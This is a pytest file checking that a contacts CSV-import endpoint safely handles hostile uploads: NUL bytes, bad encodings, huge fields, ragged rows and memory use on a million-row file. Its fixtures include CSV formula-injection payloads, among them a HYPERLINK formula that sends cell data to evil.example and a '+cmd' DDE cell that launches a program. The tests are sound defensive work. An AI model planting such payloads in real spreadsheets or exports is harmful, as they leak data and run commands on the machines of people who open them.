"""CSV import of hostile files (reliability §3.7, ASVS 1.2.10/5.2): through the real upload
endpoint, formula cells, huge fields, NUL bytes, BOMs, bad encodings and ragged rows give clear
per-row errors — never a 500 — and the error report downloaded as CSV is formula-safe; a
1,000,000-row file is read in bounded memory (peak RSS measured in a subprocess)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from security_helpers import SecTeam

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "|", "%")
HEADER = b"first_name,last_name,email\r\n"
FORMULAS = [
    b'=HYPERLINK("http://evil.example/?"&A1),Smith,=1+2@example.com\r\n',
    b"+cmd|' /C calc'!A0,Jones,@SUM(1)\r\n",
    b"-2+3,Brown,%0A@example.com\r\n",
    b"@evil,Green,|pipe@example.com\r\n",
]
HOSTILE_FILES = {
    "formulas": HEADER + b"".join(FORMULAS),
    "huge field": HEADER
    + b"Ada,"
    + b"L" * 300_000
    + b",ada@example.com\r\nBo,Ok,bo@example.com\r\n",
    "nul bytes": HEADER + b"A\x00da,Love\x00lace,ada@example.com\r\n",
    "bom": b"\xef\xbb\xbf" + HEADER + b"Ada,Lovelace,ada@example.com\r\n",
    "latin-1": HEADER + b"Ren\xe9e,M\xfcller,renee@example.com\r\n",
    "invalid utf-8": HEADER + b"\xff\xfe\xfd,\xc3\x28,x@example.com\r\n",
    "utf-16": ("first_name,last_name,email\r\nAda,Lovelace,ada@example.com\r\n").encode("utf-16"),
    "ragged": HEADER + b"Ada\r\nBo,Ok,bo@example.com,extra,more\r\nCy,Ok,cy@example.com\r\n",
    "unterminated quote": HEADER + b'"Ada,Lovelace,ada@example.com\r\nBo,Ok,bo@example.com\r\n',
    "only a header": HEADER,
    "empty": b"",
    "binary": bytes(range(256)) * 64,
    "many columns": b",".join(b"c%d" % i for i in range(5000)) + b"\r\n" + b"x," * 4999 + b"x\r\n",
}


def _upload(client: TestClient, team: SecTeam, data: bytes, fmt: str = "json"):  # type: ignore[no-untyped-def]
    return client.post(
        f"/api/v1/contacts/import?format={fmt}",
        files={"file": ("hostile.csv", data, "text/csv")},
        headers=team.headers,
    )


@pytest.mark.parametrize("name", sorted(HOSTILE_FILES))
def test_a_hostile_file_gets_a_clear_answer_never_a_500(
    client: TestClient, team_a: SecTeam, name: str
) -> None:
    answer = _upload(client, team_a, HOSTILE_FILES[name])
    assert answer.status_code in {200, 422}, (answer.status_code, answer.text[:300])
    body = answer.json()
    if answer.status_code == 422:
        assert body["errors"][0]["path"] == "body.file" and body["errors"][0]["message"]
    else:
        for error in body["errors"]:
            assert error["row"] >= 2 and error["reason"]
        assert (
            body["rows"] == body["created"] + body["updated"] + body["unchanged"] + body["failed"]
        )


def test_formula_cells_come_back_escaped_in_the_error_csv(
    client: TestClient, team_a: SecTeam
) -> None:
    answer = _upload(client, team_a, HOSTILE_FILES["formulas"], fmt="csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == ["row", "column", "reason"] and len(rows) > 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell


def test_a_huge_field_fails_only_its_row(client: TestClient, team_a: SecTeam) -> None:
    body = _upload(client, team_a, HOSTILE_FILES["huge field"]).json()
    assert body["failed"] == 1 and body["created"] + body["updated"] + body["unchanged"] == 1
    assert body["errors"][0]["row"] == 2
    assert len(body["errors"][0]["reason"]) < 500  # the reason does not echo the field


_PEAK_SCRIPT = """
import resource, sys
from pushforce.importing.reading import ReadNotes, read_rows
with open(sys.argv[1], "rb") as stream:
    count = sum(1 for _ in read_rows(stream, ReadNotes()))
print(count, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def _write_rows(path: Path, rows: int) -> None:
    with path.open("wb") as out:
        out.write(HEADER)
        line = b"=Ada,Lovelace,ada+%d@example.com\r\n"
        for start in range(0, rows, 10_000):
            out.write(b"".join(line % i for i in range(start, min(rows, start + 10_000))))


def _peak_kib(path: Path) -> tuple[int, int]:
    done = subprocess.run(
        [sys.executable, "-c", _PEAK_SCRIPT, str(path)], capture_output=True, text=True, check=True
    )
    count, peak = done.stdout.split()
    return int(count), int(peak)


def test_a_million_row_file_is_read_in_bounded_memory(tmp_path: Path) -> None:
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    _write_rows(small, 1_000)
    _write_rows(large, 1_000_000)  # ~40 MB
    small_count, small_peak = _peak_kib(small)
    large_count, large_peak = _peak_kib(large)
    assert (small_count, large_count) == (1_001, 1_000_001)  # the header is a row too
    assert large.stat().st_size > 30 * 2**20
    assert large_peak - small_peak < 16 * 1024, (small_peak, large_peak)  # < 16 MiB more
